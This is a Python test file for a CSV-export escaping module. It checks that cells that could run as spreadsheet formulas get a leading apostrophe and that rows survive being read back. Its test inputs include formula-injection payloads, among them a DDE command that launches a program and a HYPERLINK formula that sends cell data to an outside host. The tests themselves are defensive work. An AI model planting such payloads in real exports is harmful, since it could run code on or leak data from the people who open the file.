"""Cells of exports: literal in every spreadsheet, and the same again when read back."""

import csv
import io
import shutil
import subprocess
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from street.csv_cells import BOM, cell, row

FORMULAS = [
    "=1+1", "+1", "-1+2", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "\x00=1", "＝1+1", "＋1", "－1", "＠x", '",=1+1', "';=1",
    "  =1", "\ufeff=1", '=HYPERLINK("http://e/?"&A1)', "=cmd|'/c calc'!A1",
]  # fmt: skip


@pytest.mark.parametrize("text", FORMULAS)
def test_what_could_run_gets_an_apostrophe(text: str) -> None:
    """TRUST B97, B98: also behind blanks, quotes and separators, also full-width."""
    assert cell(text).startswith("\"'")


@pytest.mark.parametrize("text", ["", "大学路12号", "a-b", "a=b", "1", "3 + 4", "#1"])
def test_what_cannot_run_is_only_quoted(text: str) -> None:
    """An apostrophe in front of every cell would be in everybody's way."""
    assert cell(text) == f'"{text}"'


@pytest.mark.parametrize(("value", "written"), [(-5, "-5"), (1.5, "1.5"), (True, "1"), (None, "")])
def test_numbers_stay_numbers(value: float | None, written: str) -> None:
    """A column of numbers can be added up."""
    assert cell(value) == written


@given(st.lists(st.text(alphabet=st.characters(exclude_categories=["Cs"]), max_size=20), min_size=1, max_size=5))
def test_rows_are_the_same_when_read_back(texts: list[str]) -> None:
    """TRUST B99: line breaks of every kind, quotes, commas, marks; a formula comes back with its apostrophe."""
    read = list(csv.reader(io.StringIO(row(texts), newline="")))

    assert [[each.removeprefix("'") for each in line] for line in read] == [[each.removeprefix("'") for each in texts]]


@pytest.mark.slow
@pytest.mark.skipif(shutil.which("soffice") is None, reason="LibreOffice is not installed")
def test_a_spreadsheet_shows_formulas_literally(tmp_path: Path) -> None:
    """TRUST B98: opened by the real program and read back, nothing was computed."""
    source = tmp_path / "export.csv"
    source.write_text(BOM + row(["=1+1", "+2+3", "@SUM(1)", "大学路"]), encoding="utf-8", newline="")

    subprocess.run(["soffice", "--headless", "--convert-to", "html", source, "--outdir", tmp_path], check=True)

    assert "=1+1" in (tmp_path / "export.html").read_text(encoding="utf-8")
